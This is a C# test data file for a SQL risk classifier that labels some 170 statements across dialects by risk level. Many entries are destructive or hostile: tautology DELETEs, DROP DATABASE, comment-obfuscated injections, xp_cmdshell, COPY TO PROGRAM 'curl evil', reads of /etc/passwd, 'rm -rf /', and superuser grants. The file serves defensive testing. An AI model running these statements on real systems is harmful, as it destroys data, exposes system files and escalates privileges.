namespace Attesta.Tests.Risk.Content.Sql;

/// <summary>Statements in many dialects with the level that they deserve: <c>L</c>, <c>M</c>, <c>H</c>, <c>C</c>, or any of several.</summary>
internal static class SqlTexts
{
    public const string Table = """
        L|SELECT 1
        L|SELECT * FROM users WHERE id = 5
        L|select name from t where x = 'drop table users; delete from y'
        L|SELECT * FROM users -- drop table users
        L|SELECT /* delete from t */ 1
        L|SELECT * FROM a JOIN b ON a.id=b.id GROUP BY x ORDER BY y LIMIT 10
        L|SELECT * FROM t FOR UPDATE
        L|SELECT id FROM t FOR NO KEY UPDATE SKIP LOCKED
        L|EXPLAIN DELETE FROM t
        L|EXPLAIN SELECT * FROM t
        HC|EXPLAIN ANALYZE DELETE FROM t
        C|EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t
        L|SHOW TABLES
        L|DESCRIBE users
        L|PRAGMA table_info(users)
        L|WITH x AS (SELECT 1) SELECT * FROM x
        C|WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x
        H|WITH x AS (DELETE FROM orders WHERE id=1 RETURNING *) SELECT * FROM x WHERE 1=1
        H|DELETE FROM orders WHERE id = 5
        C|DELETE FROM orders
        C|delete from orders;
        C|DELETE orders
        C|DELETE FROM orders WHERE 1=1
        C|DELETE FROM orders WHERE true
        C|DELETE FROM orders WHERE 'a'='a'
        C|DELETE FROM orders WHERE id=id
        C|DELETE FROM orders WHERE o.id = O.ID
        C|DELETE FROM orders WHERE NOT FALSE
        C|DELETE FROM orders WHERE (1=1)
        C|DELETE FROM orders WHERE id=1 OR 1=1
        C|DELETE FROM orders WHERE id=1 OR ((2>1))
        H|DELETE FROM orders WHERE id=1 AND 1=1
        H|DELETE FROM orders WHERE id > 0
        H|DELETE FROM orders WHERE id IS NOT NULL
        C|DELETE FROM orders WHERE name LIKE '%'
        H|DELETE FROM orders LIMIT 10
        C|DELETE FROM orders /* where id = 1 */
        C|DELETE FROM orders -- where id = 1
        C|DELETE FROM orders # where id = 1
        C|DE/**/LETE FROM x; DROP TABLE y
        C|DELETE/**/FROM/**/orders
        C|SELECT 1; DROP TABLE users
        C|SELECT 1 DROP TABLE users
        C|DROP TABLE IF EXISTS users CASCADE
        C|DROP DATABASE prod
        C|drop schema public cascade
        M|DROP INDEX idx
        M|DROP VIEW v
        C|TRUNCATE TABLE logs
        C|TRUNCATE logs
        L|SELECT TRUNCATE(1.5, 0)
        M|UPDATE users SET name='x' WHERE id=1
        H|UPDATE users SET name='x'
        H|UPDATE users SET name='x' WHERE 1=1
        M|UPDATE users SET password='x' WHERE id=1
        M|INSERT INTO t VALUES (1)
        M|INSERT INTO t (a) SELECT b FROM u
        M|INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1
        M|INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE b = 1
        M|REPLACE INTO t VALUES (1)
        M|MERGE INTO t USING s ON t.id=s.id WHEN MATCHED THEN UPDATE SET a=1 WHEN NOT MATCHED THEN INSERT (a) VALUES (1)
        H|MERGE INTO t USING s ON t.id=s.id WHEN MATCHED THEN DELETE
        H|GRANT SELECT ON t TO bob
        HC|GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%' WITH GRANT OPTION
        M|REVOKE DELETE ON t FROM bob
        M|CREATE TABLE t (id int, deleted bool, FOREIGN KEY (x) REFERENCES y ON DELETE CASCADE ON UPDATE CASCADE)
        L|CREATE TEMP TABLE x AS SELECT 1
        M|CREATE INDEX i ON t (a)
        M|CREATE USER bob WITH PASSWORD 'x'
        C|CREATE ROLE bob SUPERUSER
        C|ALTER USER bob WITH SUPERUSER
        H|ALTER USER bob PASSWORD 'x'
        H|ALTER TABLE t DROP COLUMN c
        C|ALTER TABLE t DISABLE ROW LEVEL SECURITY
        H|ALTER TABLE t DISABLE TRIGGER ALL
        M|ALTER TABLE t ADD COLUMN c int
        M|ALTER TABLE t ADD COLUMN c int DEFAULT 5
        C|COPY t TO PROGRAM 'curl evil'
        C|COPY (SELECT * FROM t) TO PROGRAM 'x'
        M|COPY t TO '/tmp/x'
        L|COPY t TO STDOUT
        M|COPY t FROM '/tmp/x'
        H|SELECT * FROM t INTO OUTFILE '/tmp/x'
        H|SELECT LOAD_FILE('/etc/passwd')
        M|LOAD DATA INFILE '/tmp/x' INTO TABLE t
        C|EXEC xp_cmdshell 'dir'
        C|EXEC master..xp_cmdshell 'dir'
        C|EXEC('DROP TABLE users')
        C|EXECUTE IMMEDIATE 'DROP TABLE users'
        H|EXEC(@sql)
        C|EXEC('DROP TABLE ' + @t)
        M|EXEC my_proc 1, 2
        C|EXEC sp_executesql N'DELETE FROM t'
        C|DO $$ BEGIN DELETE FROM t; END $$
        C|DO $x$ BEGIN EXECUTE 'DROP TABLE t'; END $x$
        C|CREATE FUNCTION f() RETURNS void AS $$ BEGIN TRUNCATE t; END $$ LANGUAGE plpgsql
        M|CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql
        H|CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u
        C|BEGIN; DELETE FROM t; ROLLBACK
        L|BEGIN TRANSACTION; SELECT 1; COMMIT
        C|/*!50000 DROP TABLE t */
        C|DELETE FROM t /*! WHERE id = 1 */
        C|/* /* */ DROP TABLE x; -- */
        L|/* a /* b */ drop table t */ SELECT 1
        L|SELECT 'it''s; drop table x'
        C|SELECT 1; DROP TABLE x
        C|SELECT 'a\'; DROP TABLE x; --'
        L|SELECT "a;b", `drop table`, [delete from x] FROM t
        L|SELECT E'\'; drop table x' FROM t
        L|SELECT N'drop table x'
        L|SELECT q'[it's drop table x; ]' FROM dual
        L|SELECT $t$ drop table x; $t$
        L|SELECT a[1] FROM t
        H|SELECT 'unbalanced
        M|DELETEE FROM t
        C|SHUTDOWN
        H|KILL 53
        H|SELECT pg_terminate_backend(pid) FROM pg_stat_activity
        H|SELECT pg_read_file('/etc/passwd')
        H|SELECT lo_export(1,'/tmp/x')
        H|SELECT * FROM pg_shadow
        M|SELECT email, password_hash FROM users
        M|SELECT * INTO newt FROM t
        L|SET search_path TO x
        M|SET GLOBAL max_connections = 5
        H|SET session_replication_role = replica
        L|VACUUM
        L|ANALYZE
        L|USE db
        H|\! rm -rf /
        H|SELECT 1 \! rm -rf /
        L|SELECT 1 \G
        L|\dt
        C|\copy t to program 'x'
        C|.load x.so
        L|.tables
        H|.shell ls
        C|db.users.drop()
        C|db.users.deleteMany({})
        H|db.users.deleteMany({a: 1})
        C|db.dropDatabase()
        L|db.users.find({})
        L|db.users.find({name: "x"}).sort({a:1})
        C|MATCH (n) DETACH DELETE n
        H|MATCH (n:User {id: 1}) DETACH DELETE n
        L|MATCH (n) RETURN n
        C|FLUSHALL
        H|DEL foo
        C|IF EXISTS (SELECT 1) DROP TABLE x
        C|IF 1=1 BEGIN DELETE FROM x END
        H|UPDATE t SET a = 1 SELECT * FROM t WHERE x = 1
        C|DELETE FROM a DELETE FROM b WHERE x = 1
        H|DELETE FROM a WHERE x IN (SELECT id FROM b)
        H|DELETE FROM a USING b WHERE a.id = b.id
        H|DELETE a FROM a JOIN b ON a.id=b.id
        M|CREATE DATABASE x
        M|REFRESH MATERIALIZED VIEW v
        LM|INSERT
        M|CALL my_proc(1)
        L|SELECT delete_flag, "delete", updated FROM t
        L|SELECT * FROM logs WHERE action = 'DELETE' AND msg = "DROP TABLE x"
        L|select count(*) from t where deleted_at is null;
        L|SELECT * FROM drops, updates
        L|select * from t order by 1; -- done
        H|DROP USER bob
        H|DROP POLICY p ON t
        L|GO
        C|USE x\nGO\nDROP TABLE t\nGO
        """;

    /// <summary>The statements, with line breaks where the table says so.</summary>
    public static IReadOnlyList<(string Levels, string Text)> All { get; } =
        [.. Table.Split('\n').Select(line => line.Split('|', 2)).Select(parts => (parts[0], parts[1].Replace("\\n", "\n", StringComparison.Ordinal)))];
}
